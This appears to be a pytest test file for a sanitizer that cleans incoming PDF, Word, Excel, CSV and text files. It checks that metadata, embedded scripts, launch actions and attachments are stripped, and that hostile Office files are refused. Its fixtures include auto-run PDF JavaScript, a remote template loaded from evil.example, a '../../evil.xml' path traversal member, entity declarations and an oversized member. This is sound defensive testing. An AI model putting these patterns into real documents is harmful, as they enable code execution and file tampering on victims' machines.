"""Documents that come in: what is let through, what is left behind, what is refused."""

import io
import zipfile

import pikepdf
import pytest
from openpyxl import Workbook

from takasaki_sc.lib import papers_shapes as words
from takasaki_sc.lib.papers_in import clean, read_paper
from takasaki_sc.lib.papers_shapes import OLE, PaperRefused

XML = '<?xml version="1.0"?>'
RELS = (
    f'{XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="x/officeDocument" Target="word/document.xml"/>'
    '<Relationship Id="r2" Type="x/core-properties" Target="docProps/core.xml"/></Relationships>'
)
TYPES = (
    f'{XML}<Types><Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="main+xml"/>'
    '<Override PartName="/docProps/core.xml" ContentType="core+xml"/></Types>'
)


def zipped(**members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def word_file(**more):
    members = {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": RELS,
        "word/document.xml": f"{XML}<w:document>HONBUN</w:document>",
        "docProps/core.xml": f"{XML}<cp:coreProperties>HIMITSU</cp:coreProperties>",
    }
    return zipped(**members | more)


def pdf_file(change=lambda pdf: None, **how):
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(200, 200))
    page.Contents = pdf.make_stream(b"BT (HONBUN) Tj ET")
    change(pdf)
    out = io.BytesIO()
    pdf.save(out, compress_streams=False, **how)
    return out.getvalue()


def with_everything_hidden(pdf):
    """Author, XMP, a script on opening, one behind a link, a form that sends, an attachment."""
    pdf.docinfo["/Author"] = "HIMITSU-INFO"
    with pdf.open_metadata() as xmp:
        xmp["dc:creator"] = ["HIMITSU-XMP"]
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="HIMITSU-JS")
    pdf.Root.OpenAction = pdf.make_indirect(script)
    pdf.Root.AA = pikepdf.Dictionary(WC=script)
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=["a", pdf.make_indirect(script)])
    )
    pdf.attachments["HIMITSU.txt"] = pikepdf.AttachedFileSpec(pdf, b"HIMITSU-FILE")
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="HIMITSU-LAUNCH.exe")
    kept = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://example.org/", Next=launch)
    pdf.pages[0].Annots = pdf.make_indirect(
        pikepdf.Array(
            [
                pdf.make_indirect(note("/Link", A=kept)),
                pdf.make_indirect(note("/Link", A=pdf.make_indirect(launch))),
                pdf.make_indirect(note("/Text", T="HIMITSU-NAME", Contents="KOMENTO")),
                pdf.make_indirect(note("/FileAttachment", FS="HIMITSU-NOTE")),
            ]
        )
    )


def note(kind, **more):
    return pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(kind), Rect=[0, 0, 9, 9], **more
    )


def plain(body):
    """The PDF with nothing packed, so that a search in its bytes sees everything."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(body)) as pdf:
        pdf.save(
            out,
            compress_streams=False,
            stream_decode_level=pikepdf.StreamDecodeLevel.all,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
        )
    return out.getvalue()


@pytest.mark.proves("V14.2.8")
def test_pdf_keeps_its_page_and_loses_what_is_hidden():
    dirty = pdf_file(with_everything_hidden)
    assert plain(dirty).count(b"HIMITSU") > 8
    body = plain(clean(dirty).content)
    assert b"HIMITSU" not in body
    assert b"JavaScript" not in body
    assert b"(HONBUN) Tj" in body
    assert b"https://example.org/" in body
    assert b"KOMENTO" in body


def test_pdf_with_a_password_or_a_restriction_is_refused():
    for user in ("geheim", ""):
        locked = pdf_file(encryption=pikepdf.Encryption(owner="besitz", user=user))
        with pytest.raises(PaperRefused, match=words.LOCKED):
            clean(locked)


def test_broken_pdf_is_refused():
    with pytest.raises(PaperRefused, match=words.BROKEN):
        clean(b"%PDF-1.7 and nothing else")


def test_earlier_version_of_a_pdf_does_not_come_along():
    old = pdf_file(lambda pdf: pdf.docinfo.update({"/Title": "HIMITSU-OLD"}))
    appended = old + b"\n1 0 obj\n(HIMITSU-LOOSE)\nendobj\n"
    assert b"HIMITSU" not in clean(appended).content


@pytest.mark.proves("V14.2.8")
def test_word_file_loses_its_properties_and_stays_whole():
    paper = clean(word_file())
    archive = zipfile.ZipFile(io.BytesIO(paper.content))
    everything = b"".join(archive.read(name) for name in archive.namelist())
    assert paper.suffix == ".docx"
    assert sorted(archive.namelist()) == ["[Content_Types].xml", "_rels/.rels", "word/document.xml"]
    assert b"docProps" not in everything
    assert b"word/document.xml" in archive.read("_rels/.rels")


def test_real_workbook_is_taken_without_its_author():
    book = Workbook()
    book.active["A1"] = "HONBUN"
    book.properties.creator = "HIMITSU"
    out = io.BytesIO()
    book.save(out)
    paper = clean(out.getvalue())
    archive = zipfile.ZipFile(io.BytesIO(paper.content))
    assert paper.suffix == ".xlsx"
    assert [name for name in archive.namelist() if "docProps" in name] == []


REMOTE = (
    f'{XML}<Relationships><Relationship Id="r" Type="x/attachedTemplate" '
    'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
ENTITIES = f'{XML}<!DOCTYPE x [<!ENTITY a "b">]><x/>'


@pytest.mark.proves("G8", "V5.2.2")
@pytest.mark.parametrize(
    ("member", "content", "said"),
    [
        ("word/vbaProject.bin", b"macro", words.MACROS),
        ("[Content_Types].xml", TYPES.replace("main+xml", "macroEnabled.main+xml"), words.MACROS),
        ("word/embeddings/oleObject1.bin", OLE + b"...", words.EMBEDDED),
        ("word/media/image1.png", OLE + b"...", words.EMBEDDED),
        ("word/activeX/activeX1.xml", "<x/>", words.EMBEDDED),
        ("word/embeddings/sheet1.xlsx", word_file(**{"word/vbaProject.bin": b"m"}), words.MACROS),
        ("word/_rels/settings.xml.rels", REMOTE, words.REMOTE),
        ("word/settings.xml", ENTITIES, words.BROKEN),
        ("word/zeros.xml", b"0" * (300 * 2**20), words.TOO_LARGE),
    ],
)
def test_hostile_office_file_is_refused(member, content, said):
    with pytest.raises(PaperRefused) as refusal:
        clean(word_file(**{member: content}))
    assert str(refusal.value) == said


def test_link_to_a_page_is_no_harm():
    link = REMOTE.replace("attachedTemplate", "hyperlink")
    assert clean(word_file(**{"word/_rels/document.xml.rels": link})).suffix == ".docx"


@pytest.mark.proves("V5.3.3")
def test_member_that_climbs_out_of_its_folder_is_left_behind():
    paper = clean(word_file(**{"../../evil.xml": "<x/>"}))
    assert "../../evil.xml" not in zipfile.ZipFile(io.BytesIO(paper.content)).namelist()


@pytest.mark.proves("V5.2.2")
@pytest.mark.parametrize(
    ("body", "said"),
    [
        (OLE + b"\0" * 600, words.OLD_OFFICE),
        (zipped(a="b"), words.WRONG_KIND),
        (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", words.WRONG_KIND),
        (b"MZ\x90\0\x03\0\0\0", words.WRONG_KIND),
        (b"GIF89a\x01\x00", words.WRONG_KIND),
    ],
)
def test_what_is_none_of_the_six_is_refused(body, said):
    with pytest.raises(PaperRefused) as refusal:
        clean(body)
    assert str(refusal.value) == said


@pytest.mark.parametrize(
    ("text", "coding", "suffix"),
    [
        ("番号,名前\r\n1,八幡\r\n", "cp932", ".csv"),
        ("番号,名前\r\n1,八幡\r\n", "utf-8", ".csv"),
        ("きょうは、晴れ。\n", "utf-8-sig", ".txt"),
        ("きょうは、晴れ。\n", "utf-16", ".txt"),
    ],
)
def test_text_in_any_coding_becomes_utf8(text, coding, suffix):
    paper = clean(text.encode(coding))
    assert (paper.content.decode("utf-8-sig"), paper.suffix) == (text, suffix)


@pytest.mark.slow
def test_paper_is_cleaned_in_a_child_and_limits_are_said_in_words():
    assert b"HIMITSU" not in read_paper(pdf_file(with_everything_hidden)).content
    for body, said in ((b"", words.EMPTY), (b"x" * (20 * 2**20 + 1), words.TOO_LARGE)):
        with pytest.raises(PaperRefused) as refusal:
            read_paper(body)
        assert str(refusal.value) == said
    with pytest.raises(PaperRefused, match=words.MACROS):
        read_paper(word_file(**{"word/vbaProject.bin": b"m"}))
